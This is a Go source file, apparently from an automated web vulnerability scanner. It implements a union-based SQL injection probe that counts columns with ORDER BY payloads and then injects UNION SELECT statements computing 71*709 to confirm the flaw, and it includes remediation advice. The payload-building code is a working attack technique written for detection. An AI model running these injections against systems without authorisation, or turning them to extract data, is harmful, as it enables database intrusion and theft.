package injection

import (
	"bytes"
	"context"
	"fmt"
	"strings"

	"github.com/atelier-studio/atelier/agents"
	"github.com/atelier-studio/atelier/agents/similar"
	"github.com/atelier-studio/atelier/agents/surface"
	"github.com/atelier-studio/atelier/agents/wire"
)

func sqliUnion() *agents.Probe {
	return &agents.Probe{
		ID: "sqli-union", Title: "A value from the request reads other tables of the database",
		Decides:  "A statement added with UNION, which computes 71*709, makes the target show 50339.",
		Keeps:    "The exchange, and the place in the answer.",
		Advice:   "Give values to statements as parameters, never as part of their text, and let the application's account at the database read only what it needs.",
		Needs:    needs,
		Severity: agents.Critical, References: []string{"CWE-89"}, Skills: []string{"SQLi"},
		Check: agents.Each(asking, runSQLIUnion),
	}
}

// ends are how a value can end where it stands in a statement.
var ends = []string{"'", "", "')", "%'", `"`, ")"}

func runSQLIUnion(ctx context.Context, lab *agents.Lab, in *surface.Input) agents.Outcome {
	a, stop := at(ctx, lab, in)
	if stop != nil {
		return *stop
	}
	defer a.close()
	if bytes.Contains(a.base.Body, []byte(computed)) {
		return agents.Pass() // it stands there anyway, and would prove nothing
	}
	d, stop := a.differential(ctx)
	if stop != nil {
		return *stop
	}
	for _, end := range ends {
		columns, stop := a.columns(ctx, end, d.bar())
		if stop != nil {
			return *stop
		}
		if columns == 0 {
			continue
		}
		x, value, excerpt, stop := a.proved(ctx, unions(lab.Marker(1), in.Known, end, columns), showsProduct)
		if stop != nil {
			return *stop
		}
		if x != nil {
			return agents.Fail(a.finding(fmt.Sprintf("%s with the value %s makes the database compute 71*709 and the target show the result: any table that the application can read can be read so.", in.Name, value),
				agents.Exchanged("the answer with the computed number", x), agents.Excerpt("where it stands", excerpt)))
		}
	}
	return agents.Pass()
}

// showsProduct finds the computed number in an answer.
func showsProduct(x *wire.Exchange, _ string) string { return around(string(x.Body), computed) }

// mostColumns is how many columns a statement is thought to have at most.
const mostColumns = 40

// columns finds how many columns a statement selects, by ordering by one that it does not have; 0 when the value is not
// part of a statement. Bar is how alike answers are that say the same.
func (a *aim) columns(ctx context.Context, end string, bar float64) (int, *agents.Outcome) {
	order := func(n int) (*wire.Exchange, string) {
		value := fmt.Sprintf("%s%s ORDER BY %d-- ", a.in.Known, end, n)
		return a.send(ctx, value), value
	}
	one, valueOne := order(1)
	if stop := unfit(ctx, one); stop != nil {
		return 0, stop
	}
	many, valueMany := order(mostColumns + 1)
	if stop := unfit(ctx, many); stop != nil {
		return 0, stop
	}
	works := func(x *wire.Exchange, value string) bool {
		return similar.Of(one, x, value, valueOne, a.in.Known) > similar.Of(many, x, value, valueMany, a.in.Known)
	}
	if similar.Of(one, many, valueOne, valueMany, a.in.Known) >= bar {
		return 0, nil
	}
	low, high := 1, mostColumns+1 // the first works, the last does not
	for high-low > 1 {
		middle := (low + high) / 2
		x, value := order(middle)
		if stop := unfit(ctx, x); stop != nil {
			return 0, stop
		}
		if works(x, value) {
			low = middle
		} else {
			high = middle
		}
	}
	return low, nil
}

// unions are values that add a row with the product: as a number in all columns, as a text in all, and then in one column
// after the other, for databases that are strict about types. The value itself is made to select nothing, so that a target
// that shows one row shows this one.
func unions(nothing, known, end string, columns int) []string {
	if end == "" || end == ")" {
		nothing = "-71" + known
		if known == "" || strings.Trim(known, "0123456789") != "" {
			nothing = "-71"
		}
	}
	all := func(expression string) string {
		return strings.TrimSuffix(strings.Repeat(expression+",", columns), ",")
	}
	var list []string
	for _, row := range []string{all(product), all("CAST(" + product + " AS CHAR(9))")} {
		list = append(list, nothing+end+" UNION SELECT "+row+"-- ", known+end+" UNION ALL SELECT "+row+"-- ")
	}
	for i := range min(columns, 8) {
		row := make([]string, columns)
		for j := range row {
			row[j] = "NULL"
		}
		row[i] = "CAST(" + product + " AS VARCHAR(9))"
		list = append(list, nothing+end+" UNION SELECT "+strings.Join(row, ",")+"-- ")
	}
	return append(list, nothing+end+" UNION SELECT "+all("TO_CHAR("+product+")")+" FROM dual-- ")
}
